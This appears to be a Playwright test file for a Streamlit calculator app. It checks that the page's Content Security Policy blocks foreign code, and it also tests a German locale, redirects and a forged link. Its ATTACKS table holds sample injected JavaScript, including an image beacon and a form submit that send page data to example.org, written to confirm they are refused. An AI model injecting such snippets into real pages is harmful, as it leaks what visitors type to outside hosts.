"""What app.py forbids, in a browser. What it must not forbid is tested by all other tests: they are served by it."""

import re

from playwright.sync_api import expect

from tests.browser.conftest import ready
from ui.frame import link
from ui.texts import words

ATTACKS = {
    "script-src": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.bad = 1'}))",
    "connect-src": "fetch('https://example.org/').catch(() => 0)",
    "img-src": "new Image().src = 'https://example.org/' + location.search",
    "form-action": "const form = document.createElement('form'); form.action = 'https://example.org';"
    "document.body.append(form); form.submit()",
}


def test_what_is_not_ours_is_refused(app, visit):
    """Foreign code in a page could neither run nor tell anybody what was typed; and the visit notices it."""
    there = visit()
    page = there.open(f"{app}/rules")
    for directive, attack in ATTACKS.items():
        page.evaluate(f"() => {{ {attack} }}")
        page.wait_for_timeout(100)
        assert any(directive in text for text in there.refused), directive
        there.refused.clear()
    assert page.evaluate("window.bad") is None
    there.requests.clear()  # what was refused is listed as asked for, though it never left


def test_a_first_visit_in_german(app, visit):
    """The page speaks the visitor's language before the first script runs; the console stays silent."""
    there = visit("phone", locale="de-DE")
    page = there.open(app)
    assert page.evaluate("document.documentElement.lang") == "de"
    assert there.errors == []


def test_the_start_page_by_its_own_name(app, visit):
    """With what was typed: `/calculator` is the calculator, and no box says otherwise."""
    page = visit().open(f"{app}/calculator?s={link.encode({'calculator.record': '4-1-1'})}")
    expect(page).to_have_url(re.compile(re.escape(app) + r"/\?s="))
    expect(page.get_by_role("textbox", name="Record", exact=True)).to_have_value("4-1-1")
    expect(page.get_by_role("dialog")).to_have_count(0)


def test_an_address_that_is_no_page(app, visit):
    """With a forged link on top: Streamlit says that there is no such page, and behind it stands the calculator."""
    there = visit()
    page = there.context.new_page()
    page.goto(f"{app}/no-such-page?s=1abc")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    ready(page)
    expect(page.get_by_role("textbox", name="Record", exact=True)).to_be_visible()
    expect(page.get_by_text(words("shell.link-unreadable"))).to_be_visible()
    expect(page.get_by_test_id("stException")).to_have_count(0)
